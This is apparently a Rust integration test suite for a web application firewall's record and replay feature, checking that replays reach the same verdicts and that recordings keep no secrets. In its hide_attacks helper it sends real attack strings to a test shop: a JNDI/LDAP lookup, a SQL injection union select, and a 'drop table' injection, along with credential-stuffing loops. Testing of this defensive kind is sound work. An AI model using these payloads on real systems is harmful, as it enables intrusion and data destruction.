//! `--record` and `replay`: the same engine gives the same verdicts.

use std::collections::BTreeSet;
use std::path::Path;
use std::time::Duration;

use crate::support::{Palisade, call, call_with, log_in_as, program, shop, text, until};

/// Wrong, and none of the common passwords, which are evidence of their own.
const WRONG: &str = "Moss-29-anvil";

fn replay(data: &Path, args: &[&str]) -> Vec<serde_json::Value> {
    let output = program()
        .arg("replay")
        .args(args)
        .args(["--output", "jsonl", "--data"])
        .arg(data)
        .output()
        .expect("runs");
    assert!(output.status.success(), "{}", text(&output.stderr));
    let lines = text(&output.stdout);
    lines.lines().map(|line| serde_json::from_str(line).expect("a line")).collect()
}

#[test]
fn a_recording_replays_to_the_same_verdicts() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let file = data.path().join("recording.jsonl");
    let named = file.to_str().expect("a path").to_owned();
    let folder = data.path().join("data");
    let palisade = Palisade::run(&upstream, &folder, &["--mode", "enforce", "--record", &named]);
    let token = [("authorization", "Bearer kq93jf8d0s9fk20dkf93kd9fk3k")];
    let mut statuses = Vec::new();
    for number in 0..5 {
        let target = format!("/api/v1/orders/{number}");
        statuses.push(call_with(palisade.address, "GET", &target, &token, "").status);
    }
    for number in 0..40 {
        let answer = log_in_as(palisade.address, &format!("u{number}@example.com"), "wr0ng-pass");
        statuses.push(answer.status);
    }
    assert_eq!(palisade.end(), 143);
    let lines = replay(&folder, &[&named]);
    let summary = &lines.last().expect("a summary")["summary"];
    assert_eq!(summary["exchanges"], statuses.len(), "{summary}");
    assert_eq!(summary["skipped"], 0, "{summary}");
    let refused_live = statuses.iter().filter(|status| matches!(status, 403 | 429)).count();
    assert!(refused_live > 0);
    let refused_again = lines
        .iter()
        .filter(|line| matches!(line["verdict"].as_str(), Some("deny" | "challenge" | "throttle")))
        .count();
    assert_eq!(refused_again, refused_live, "{lines:#?}");
    assert_eq!(summary["different"], 0, "{summary}");
    let written = std::fs::read_to_string(&file).expect("the recording");
    for secret in ["kq93jf8d0s9fk20dkf93kd9fk3k", "wr0ng-pass"] {
        assert!(!written.contains(secret), "{secret} is in the recording");
    }
    assert_eq!(replay(&folder, &[&named]), lines, "a replay is repeatable");
}

#[test]
fn a_switch_while_recording_is_part_of_the_recording() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let file = data.path().join("recording.jsonl");
    let named = file.to_str().expect("a path").to_owned();
    let folder = data.path().join("data");
    let palisade = Palisade::run(&upstream, &folder, &["--record", &named]);
    let attempts = |from: usize, to: usize| -> Vec<u16> {
        let attempt = |number| log_in_as(palisade.address, &format!("u{number}@x.test"), WRONG);
        (from..to).map(|number| attempt(number).status).collect()
    };
    assert_eq!(attempts(0, 20), [401; 20]);
    assert!(palisade.command(&["enforce", "takeover"]).status.success());
    assert!(attempts(20, 40).contains(&403));
    assert!(palisade.command(&["monitor", "takeover"]).status.success());
    assert_eq!(attempts(40, 50), [401; 10]);
    assert_eq!(palisade.end(), 143);
    let lines = replay(&folder, &[&named]);
    let summary = &lines.last().expect("a summary")["summary"];
    assert_eq!(summary["exchanges"], 50, "{summary}");
    assert_eq!(summary["same"], 50, "{summary}");
}

#[test]
fn orders_by_hand_are_part_of_the_recording() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let file = data.path().join("recording.jsonl");
    let named = file.to_str().expect("a path").to_owned();
    let folder = data.path().join("data");
    // Numbers given before the recording begins are not given again in it.
    let palisade = Palisade::run(&upstream, &folder, &["--mode", "enforce"]);
    for _ in 0..3 {
        let id = palisade.json(&["block", "account:nobody@x.test"])["id"].clone();
        palisade.json(&["decisions", "rm", id.as_str().expect("an id")]);
    }
    assert_eq!(palisade.end(), 143);
    let flags = ["--mode", "enforce", "--record", &named];
    let palisade = Palisade::run(&upstream, &folder, &flags);
    let attempts = |from: usize, to: usize| -> Vec<u16> {
        let attempt = |number| log_in_as(palisade.address, &format!("u{number}@x.test"), WRONG);
        (from..to).map(|number| attempt(number).status).collect()
    };
    // A block by hand, and its end.
    let block = palisade.json(&["block", "account:u2@x.test", "--for", "1h"])["id"].clone();
    assert_eq!(attempts(0, 4), [401, 401, 403, 401]);
    palisade.json(&["decisions", "rm", block.as_str().expect("an id")]);
    assert_eq!(attempts(2, 3), [401]);
    // An exception, and its end: the evidence counts again.
    let paced = attempts(4, 30);
    assert_eq!(paced.last(), Some(&429), "{paced:?}");
    let last = log_in_as(palisade.address, "u30@x.test", WRONG);
    let event = last.header("palisade-event").expect("an event").to_owned();
    let silenced = palisade.json(&["silence", &event])["id"].clone();
    assert_eq!(attempts(31, 33), [401; 2]);
    palisade.json(&["exceptions", "rm", silenced.as_str().expect("an id")]);
    let refused = attempts(40, 50);
    assert_eq!(refused.last(), Some(&403), "{refused:?}");
    // A block that evidence set is taken back: it is forgiven.
    let standing = palisade.json(&["decisions", "list"]);
    let set = standing["decisions"].as_array().expect("a list").first().expect("a block").clone();
    palisade.json(&["decisions", "rm", set["id"].as_str().expect("an id")]);
    assert_eq!(attempts(50, 51), [401]);
    assert_eq!(palisade.end(), 143);
    let written = std::fs::read_to_string(&file).expect("the recording");
    assert_eq!(written.matches("{\"order\":").count(), 5, "each order has its line");
    assert!(!written.contains("u2@x.test\",\"reason"), "of an account its hash is kept");
    let lines = replay(&folder, &[&named]);
    let summary = &lines.last().expect("a summary")["summary"];
    assert_eq!(summary["skipped"], 0, "{summary}");
    assert_eq!(summary["different"], 0, "{summary}");
    assert_eq!(summary["same"], summary["exchanges"], "{summary}");
}

#[test]
fn a_recording_written_by_hand_is_enough() {
    let data = tempfile::tempdir().expect("a folder");
    let file = data.path().join("hand.jsonl");
    let mut lines = String::new();
    for number in 0..40 {
        lines.push_str(&format!(
            "{{\"client\":\"203.0.113.7\",\"request\":{{\"method\":\"POST\",\
             \"url\":\"https://shop.test/api/v1/login\",\
             \"headers\":[[\"content-type\",\"application/json\"]],\
             \"body\":\"{{\\\"email\\\":\\\"u{number}@example.com\\\",\\\"password\\\":\\\"x\\\"}}\"\
             }},\"response\":{{\"status\":401}},\"label\":\"stuffing\"}}\n"
        ));
    }
    lines.push_str("not json\n");
    std::fs::write(&file, lines).expect("written");
    let named = file.to_str().expect("a path");
    let answered = replay(data.path(), &[named, "--mode", "enforce"]);
    let summary = &answered.last().expect("a summary")["summary"];
    assert_eq!(summary["exchanges"], 40, "{summary}");
    assert_eq!(summary["skipped"], 1, "{summary}");
    assert_eq!(answered[0]["label"], "stuffing");
    assert_eq!(answered[0]["n"], 1);
    let refused = answered.iter().filter(|line| line["verdict"] == "deny").count();
    assert!(refused > 10, "{summary}");
    let output = program().args(["replay", named]).output().expect("runs");
    assert!(text(&output.stdout).contains("exchanges"), "a summary for people");
}

#[test]
fn a_header_that_lies_is_refused() {
    let data = tempfile::tempdir().expect("a folder");
    let file = data.path().join("lies.jsonl");
    for (header, why) in [
        (r#""memory_budget":18446744073709551615"#, "memory_budget"),
        (r#""state":"catalog:!!""#, "is damaged"),
        (r#""policy":"x""#, "not TOML"),
    ] {
        let exchange = r#"{"request":{"method":"GET","url":"/a"}}"#;
        let text_of = format!("{{\"palisade_recording\":1,{header}}}\n{exchange}\n");
        std::fs::write(&file, text_of).expect("written");
        let output = program().arg("replay").arg(&file).output().expect("runs");
        assert!(matches!(output.status.code(), Some(1 | 4)), "{output:?}");
        assert!(text(&output.stderr).contains(why), "{output:?}");
    }
}

#[test]
fn what_is_no_recording_is_no_success() {
    let data = tempfile::tempdir().expect("a folder");
    let file = data.path().join("notes.txt");
    for (words, code) in [("", 1), ("buy milk\n", 1), ("{\"palisade_recording\":1}\n", 0)] {
        std::fs::write(&file, words).expect("written");
        let output = program().arg("replay").arg(&file).output().expect("runs");
        assert_eq!(output.status.code(), Some(code), "{words:?}: {output:?}");
    }
}

#[test]
fn a_recording_with_secrets_is_its_owners_alone() {
    use std::os::unix::fs::PermissionsExt as _;

    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let file = data.path().join("exact.jsonl");
    let named = file.to_str().expect("a path").to_owned();
    let args = ["--record", &named, "--record-secrets"];
    let palisade = Palisade::run(&upstream, &data.path().join("data"), &args);
    call(palisade.address, "GET", "/api/v1/products?token=sekret-canary-1", "");
    palisade.end();
    let mode = std::fs::metadata(&file).expect("the file").permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let written = std::fs::read_to_string(&file).expect("the recording");
    assert!(written.contains("sekret-canary-1"), "exact means exact");
}

/// Callers of every sort at once, from several threads and addresses.
fn crowd(to: std::net::SocketAddr, rounds: usize) {
    let caller = |thread: usize| {
        move || {
            for round in 0..rounds {
                let token = format!("Bearer kq93jf8d0s9fk20dkf93kd9fk3k{thread}");
                let agent = format!("shop-app/{thread}.0");
                let headers = [("authorization", token.as_str()), ("user-agent", agent.as_str())];
                let target = format!("/api/v1/orders/{}", thread * 1_000 + round);
                call_with(to, "GET", &target, &headers, "");
                match thread {
                    0 => drop(log_in_as(to, &format!("u{round}@example.com"), "wrong-horse")),
                    1 => drop(call(to, "GET", &format!("/admin/backup{round}.zip"), "")),
                    _ => drop(log_in_as(to, &format!("honest{thread}@example.com"), "right-horse")),
                }
            }
        }
    };
    let threads: Vec<_> = (0..6).map(|thread| std::thread::spawn(caller(thread))).collect();
    threads.into_iter().for_each(|thread| thread.join().expect("a caller"));
}

#[test]
fn concurrent_traffic_replays_the_same_at_any_number_of_workers() {
    for workers in ["1", "8"] {
        let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
        let file = data.path().join("recording.jsonl");
        let named = file.to_str().expect("a path").to_owned();
        let folder = data.path().join("data");
        let flags = ["--mode", "enforce", "--workers", workers];
        let palisade = Palisade::run(&upstream, &folder, &flags);
        crowd(palisade.address, 10);
        assert_eq!(palisade.end(), 143);
        // What was learnt and decided before the recording begins is part of it.
        let flags = [&flags[..], &["--record", &named]].concat();
        let palisade = Palisade::run(&upstream, &folder, &flags);
        crowd(palisade.address, 40);
        let live = findings(&palisade);
        assert_eq!(palisade.end(), 143);
        let lines = replay(&folder, &[&named]);
        let summary = &lines.last().expect("a summary")["summary"];
        assert_eq!(summary["exchanges"], 6 * 40 * 2, "{workers} workers: {summary}");
        assert_eq!(summary["same"], summary["exchanges"], "{workers} workers: {summary}");
        let refused = lines.iter().filter(|line| line["verdict"] == "deny").count();
        assert!(refused > 0, "{workers} workers: {summary}");
        let again = summary["findings"].as_array().expect("a list").iter().map(essence).collect();
        assert_eq!(live, again, "{workers} workers");
    }
}

/// Attacks where a recording keeps nothing but hashes.
#[derive(Clone, Copy, Debug)]
enum Hidden {
    Token,
    Cookie,
    Password,
}

/// Several callers who hide attacks, and an honest one.
fn hide_attacks(to: std::net::SocketAddr, hidden: Hidden) {
    let caller = |thread: usize| {
        move || {
            for round in 0..HIDDEN_ROUNDS {
                let target = format!("/api/v1/orders/{}", thread * 1_000 + round);
                let get = |header: &str, value: &str| {
                    call_with(to, "GET", &target, &[(header, value)], "");
                };
                match hidden {
                    _ if thread == 0 => get("authorization", "Bearer honest-kq93jf8d0s9fk20dkf9"),
                    Hidden::Token => {
                        let token = format!("Bearer ${{jndi:ldap://x{round}.test/a}}");
                        get("authorization", &token);
                    }
                    Hidden::Cookie => {
                        let attack = "' union select null,password from users-- -";
                        get("cookie", &format!("sid={round}{attack}"));
                    }
                    Hidden::Password => {
                        let email = format!("u{round}@example.com");
                        let password = format!("{round}' or 1=1; drop table users;-- -");
                        drop(log_in_as(to, &email, &password));
                    }
                }
            }
        }
    };
    let threads: Vec<_> =
        (0..HIDING_CALLERS).map(|thread| std::thread::spawn(caller(thread))).collect();
    threads.into_iter().for_each(|thread| thread.join().expect("a caller"));
}

const HIDING_CALLERS: usize = 4;
const HIDDEN_ROUNDS: usize = 8;

#[test]
fn attacks_in_secrets_replay_the_same_though_the_recording_has_hashes_of_them() {
    for (workers, mode) in [("1", "enforce"), ("8", "monitor"), ("8", "enforce")] {
        for hidden in [Hidden::Token, Hidden::Cookie, Hidden::Password] {
            replay_hidden(workers, mode, hidden);
        }
    }
}

fn replay_hidden(workers: &str, mode: &str, hidden: Hidden) {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let file = data.path().join("recording.jsonl");
    let named = file.to_str().expect("a path").to_owned();
    let folder = data.path().join("data");
    let flags = ["--mode", mode, "--workers", workers, "--record", &named];
    let palisade = Palisade::run(&upstream, &folder, &flags);
    hide_attacks(palisade.address, hidden);
    assert_eq!(palisade.end(), 143);
    let written = std::fs::read_to_string(&file).expect("the recording");
    for secret in ["jndi:", "union select", "drop table"] {
        assert!(!written.contains(secret), "{secret} is in the recording");
    }
    let lines = replay(&folder, &[&named]);
    let summary = &lines.last().expect("a summary")["summary"];
    let run = format!("{workers} workers, {mode}, {hidden:?}: {summary}");
    assert_eq!(summary["exchanges"], HIDING_CALLERS * HIDDEN_ROUNDS, "{run}");
    assert_eq!(summary["same"], summary["exchanges"], "{run}");
    // After a few of them the source is blocked, and that says enough.
    let is_attack = |line: &&serde_json::Value| {
        let signals = line["signals"].as_array();
        signals.is_some_and(|list| list.iter().any(|it| it["detector"] == "known-attack"))
    };
    assert_ne!(lines.iter().filter(is_attack).count(), 0, "{run}");
    // Without what the rules found there the replay would be another.
    let bare: String = written.lines().map(without_rules).collect();
    std::fs::write(&file, bare).expect("written");
    let lines = replay(&folder, &[&named]);
    let summary = &lines.last().expect("a summary")["summary"];
    assert_ne!(summary["same"], summary["exchanges"], "{run}");
}

/// A line of a recording without what rules found.
fn without_rules(line: &str) -> String {
    let mut line: serde_json::Value = serde_json::from_str(line).expect("JSON");
    if let Some(request) = line["request"].as_object_mut() {
        request.remove("rules");
    }
    format!("{line}\n")
}

/// What a live run concluded, once that has settled.
fn findings(palisade: &Palisade) -> BTreeSet<String> {
    let mut before = BTreeSet::new();
    until("findings to settle", || {
        std::thread::sleep(Duration::from_millis(700));
        let incidents = palisade.json(&["incidents", "list", "--all"])["incidents"].clone();
        let mut found = BTreeSet::new();
        for incident in incidents.as_array().expect("a list") {
            let shown = palisade.json(&["incidents", "show", incident["id"].as_str().expect("id")]);
            found.extend(shown["findings"].as_array().expect("a list").iter().map(essence));
        }
        let is_settled = !found.is_empty() && found == before;
        before = found;
        is_settled.then_some(())
    });
    before
}

/// A finding as both a live run and a replay tell it.
fn essence(finding: &serde_json::Value) -> String {
    const FIELDS: [&str; 10] = [
        "detector",
        "severity",
        "entity",
        "endpoint",
        "title",
        "requests",
        "refused",
        "succeeded",
        "first",
        "last",
    ];
    FIELDS.map(|field| finding[field].to_string()).join(" ")
}
